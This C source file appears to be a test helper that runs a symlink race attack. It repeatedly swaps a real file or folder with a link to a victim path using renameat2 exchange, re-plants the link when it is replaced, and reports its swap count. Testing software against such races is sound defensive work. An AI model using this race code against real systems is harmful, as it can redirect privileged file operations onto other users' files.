/*
 * Swaps two names of a folder as fast as the kernel can, until its standard input ends: one is a real folder or file, the
 * other a link to a victim's. Prints how many swaps it has made, and leaves the real one where it was.
 *
 *   swap-attacker folder REAL LINK
 *   swap-attacker file REAL LINK VICTIM      plants LINK -> VICTIM again whenever the host has replaced it
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int is_link(const char *path) {
  struct stat facts;
  return lstat(path, &facts) == 0 && S_ISLNK(facts.st_mode);
}

static int input_has_ended(void) {
  struct pollfd input = {.fd = 0, .events = POLLIN};
  return poll(&input, 1, 0) != 0;
}

int main(int count, char **args) {
  if (count < 4) return 2;
  const char *real = args[2], *link = args[3];
  const int is_file = strcmp(args[1], "file") == 0;
  long swaps = 0;
  puts("ready");
  fflush(stdout);
  for (long turn = 0; turn % 64 != 0 || !input_has_ended(); turn++) {
    if (renameat2(AT_FDCWD, real, AT_FDCWD, link, RENAME_EXCHANGE) == 0) swaps++;
    if (is_file && !is_link(real) && !is_link(link)) {
      unlink(link);
      if (symlink(args[4], link) != 0) return 3;
    }
  }
  if (is_link(real) && renameat2(AT_FDCWD, real, AT_FDCWD, link, RENAME_EXCHANGE) == 0) swaps++;
  printf("%ld\n", swaps);
  return is_link(real);
}
